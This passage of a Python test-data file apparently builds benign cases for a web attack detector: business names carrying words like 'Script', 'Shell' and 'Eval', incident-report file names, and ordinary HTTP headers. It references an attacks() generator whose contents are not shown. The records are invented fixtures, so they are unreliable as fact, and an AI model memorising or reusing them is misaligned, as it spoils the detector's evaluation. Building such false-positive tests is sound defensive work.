    ("Kenji Sato", "Payments SRE, Shibuya, Tokyo"),
    ("Ana Souza", "Comms Lead, Avenida Paulista 900, São Paulo"),
    ("Script Kitchen Catering", "Market St 5, Leeds"),
    ("Alert Security Services", "Station Rd 12, Reading"),
    ("Shell Garage", "A4 Service Area, Bath"),
    ("System Office Supplies", "Industrial Park 3, Eindhoven"),
    ("Template Print Shop", "High St 40, Bristol"),
    ("Vue Cinema Staff", "Leicester Sq, London"),
    ("Angular Momentum Physio", "King St 8, Cambridge"),
    ("Eval Consulting", "Tech Hub 2, Tallinn"),
    ("Phar Lap Stables", "Flemington, Melbourne"),
    ("Expression Dance Studio", "Queen St 77, Toronto"),
]

UPLOAD_NAMES = [
    "INC-4821-timeline.pdf", "postmortem-2024-06-11-api-gw.docx", "SEC-1192-ioc-list.xlsx",
    "ir-report-legacy-wordpress-final.pdf", "waf-alerts-export-2024-06-09.csv", "access_log-web-11.gz",
    "oncall-rota-july.xlsx", "status-page-screenshot.png", "php-fpm-slowlog-web-02.txt", "key-rotation-checklist.md",
    "tabletop-exercise-q3.pptx", "evidence-chain-of-custody.pdf", "blocked-ranges-2024-06.csv",
    "customer-impact-summary.docx", "runbook-php-fpm.pdf", "grafana-edge-overview.png",
    "xss-bug-bounty-report-redacted.pdf", "csp-rollout-plan.md", "svg-icons-v3.zip", "alert-tuning-notes.txt",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "PagerDuty-Webhook/V3.0"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Prometheus/2.52.0"),
    ("User-Agent", "curl/8.7.1"),
    ("User-Agent", "python-requests/2.32.3"),
    ("User-Agent", "Datadog Agent/7.54.0"),
    ("Referer", "https://status.example.com/incidents/8x2k4m9q7t1v"),
    ("Referer", "https://wiki.example.com/postmortems/2024-06-11-api-gateway-502s"),
    ("Referer", "https://jira.example.com/browse/SEC-1192?focusedCommentId=10442"),
    ("Referer", "https://app.example.com/admin/users?q=on-call&team=sre"),
    ("Referer", "https://www.google.com/search?q=php-fpm+server+reached+pm.max_children"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "inc-4821-replay-0007"),
    ("Accept-Language", "pl-PL,pl;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; tz=Europe%2FWarsaw"),
    ("Cookie", "session=abc123; last_search=on-call; page_size=25"),
    ("X-Forwarded-For", "198.51.100.23"),
    ("If-Modified-Since", "Tue, 11 Jun 2024 02:19:00 GMT"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
